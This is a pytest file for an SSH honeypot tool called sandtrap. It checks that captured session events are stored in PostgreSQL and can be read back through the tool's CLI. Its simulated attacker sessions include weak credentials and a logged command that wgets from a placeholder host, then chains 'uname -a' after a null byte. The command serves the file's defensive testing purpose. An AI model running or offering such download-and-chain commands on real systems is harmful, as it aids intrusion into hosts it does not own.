"""The postgresql output and `--store` against a real PostgreSQL server started by the test.

Debian's `postgresql` (installed by `make test-tools`): initdb and pg_ctl run as the `postgres`
user when the tests run as root, on a loopback port and a socket in a temporary directory.
"""

from __future__ import annotations

import asyncio
import glob
import json
import os
import pwd
import shutil
import socket
import subprocess
import tarfile
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from sandtrap.cli import cli
from sandtrap.config import parse_config
from sandtrap.events import (
    AuthFailed,
    AuthSuccess,
    Peer,
    SessionClosed,
    SessionCommand,
    SessionConnect,
)
from sandtrap.outputs import Outputs


def _bin(name: str) -> str | None:
    found = shutil.which(name)
    if found:
        return found
    candidates = sorted(glob.glob(f"/usr/lib/postgresql/*/bin/{name}"))
    return candidates[-1] if candidates else None


INITDB, PG_CTL = _bin("initdb"), _bin("pg_ctl")
pytestmark = pytest.mark.skipif(
    INITDB is None or PG_CTL is None,
    reason="PostgreSQL is not installed (make test-tools installs Debian's postgresql)",
)


@pytest.fixture(scope="module")
def database() -> Iterator[str]:
    assert INITDB is not None and PG_CTL is not None
    home = Path(tempfile.mkdtemp(prefix="sandtrap-pg-"))
    as_user: list[str] = []
    if os.geteuid() == 0:
        owner = pwd.getpwnam("postgres")
        os.chown(home, owner.pw_uid, owner.pw_gid)
        as_user = ["runuser", "-u", "postgres", "--"]
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    data = home / "data"
    run = {"check": True, "capture_output": True, "timeout": 120}
    subprocess.run([*as_user, INITDB, "-D", str(data), "-A", "trust", "-U", "sandtrap",
                    "--no-sync"], **run)  # fmt: skip
    options = f"-k {home} -h 127.0.0.1 -p {port} -F"
    subprocess.run([*as_user, PG_CTL, "-D", str(data), "-o", options, "-l", str(home / "log"),
                    "-w", "start"], **run)  # fmt: skip
    try:
        yield f"postgresql://sandtrap@127.0.0.1:{port}/postgres"
    finally:
        subprocess.run([*as_user, PG_CTL, "-D", str(data), "-m", "fast", "-w", "stop"],
                       check=False, capture_output=True, timeout=120)  # fmt: skip
        shutil.rmtree(home, ignore_errors=True)


def _session(number: int) -> list[Any]:
    peer = Peer(f"{number:012x}", f"198.51.100.{number}", 40000 + number, 22)
    return [
        SessionConnect(peer=peer, dst_ip="192.0.2.10"),
        AuthFailed(peer=peer, username="admin", method="password", password="admin"),
        AuthSuccess(peer=peer, username="root", method="password", password="123456"),
        SessionCommand(peer=peer, channel=0, input=f"wget http://x/{number}\x00; uname -a"),
        SessionClosed(peer=peer, duration=1.5, reason="closed", username="root"),
    ]


async def _ship(url: str, tmp: Path, sensor: str, events: list[Any]) -> Outputs:
    config = parse_config(
        {
            "sensor": sensor,
            "storage": {"data_dir": str(tmp / sensor)},
            "outputs": [{"type": "postgresql", "url": url, "batch_max_seconds": 0.05}],
        }
    )
    outputs = Outputs(config)
    task = asyncio.create_task(outputs.run())
    for event in events:
        outputs.offer(event)
    async with asyncio.timeout(30):
        while outputs.statistics()[0].delivered < len(events):
            await asyncio.sleep(0.05)
    outputs.stop()
    await task
    return outputs


def _count(url: str, sql: str) -> Any:
    import psycopg

    with psycopg.connect(url) as connection:
        row = connection.execute(sql).fetchone()
        assert row is not None
        return row[0]


async def test_two_sensors_one_store_idempotent_and_readable_by_the_cli(
    database: str, tmp_path: Path
) -> None:
    first = [event for n in range(3) for event in _session(n)]
    second = [event for n in range(10, 12) for event in _session(n)]
    stats = await _ship(database, tmp_path, "sensor-a", first)
    assert stats.statistics()[0].dropped == 0
    await _ship(database, tmp_path, "sensor-b", second)
    # A replayed spool or a re-shipped log: the same records again change nothing.
    await _ship(database, tmp_path, "sensor-a", first)
    assert await asyncio.to_thread(_count, database, "SELECT count(*) FROM events") == 25
    version = await asyncio.to_thread(_count, database, "SELECT max(version) FROM sandtrap_schema")
    assert version == 1
    sensors = await asyncio.to_thread(
        _count, database, "SELECT string_agg(DISTINCT sensor, ',') FROM events"
    )
    assert sensors == "sensor-a,sensor-b"

    runner = CliRunner()
    listed = await asyncio.to_thread(
        runner.invoke, cli, ["sessions", "list", "--store", database, "--since", "1d", "--json"]
    )
    assert listed.exit_code == 0, listed.output
    rows = [json.loads(line) for line in listed.output.splitlines()]
    assert {row["sensor"] for row in rows} == {"sensor-a", "sensor-b"} and len(rows) == 5
    shown = await asyncio.to_thread(
        runner.invoke, cli, ["sessions", "show", "--store", database, "00000000000a", "--json"]
    )
    assert shown.exit_code == 0, shown.output
    detail = json.loads(shown.output)
    # U+0000 survives the store (jsonb cannot hold it; the exact line is kept beside it).
    assert [c["input"] for c in detail["commands"]] == ["wget http://x/10\x00; uname -a"]
    counted = await asyncio.to_thread(
        runner.invoke, cli, ["stats", "--store", database, "--since", "all", "--json"]
    )
    assert counted.exit_code == 0, counted.output
    assert "123456" in counted.output
    config = tmp_path / "analyst.yaml"
    config.write_text(f"storage:\n  data_dir: {tmp_path / 'analyst'}\n")
    bundle = tmp_path / "bundle.tar.gz"
    exported = await asyncio.to_thread(
        runner.invoke,
        cli,
        ["export", "--config", str(config), "--store", database, "00000000000b", "-o",
         str(bundle), "--no-engine"],
    )  # fmt: skip
    assert exported.exit_code == 0, exported.output
    with tarfile.open(bundle) as archive:
        member = archive.extractfile("00000000000b/events.jsonl")
        assert member is not None
        lines = [json.loads(line) for line in member.read().splitlines()]
    assert lines[0]["eventid"] == "session.connect" and len(lines) == 5
    assert {r["sensor"] for r in lines} == {"sensor-b"}
    refused = await asyncio.to_thread(
        runner.invoke, cli, ["stats", "--store", "postgresql://nobody@127.0.0.1:1/x"]
    )
    assert refused.exit_code == 1 and "cannot read the store" in refused.output
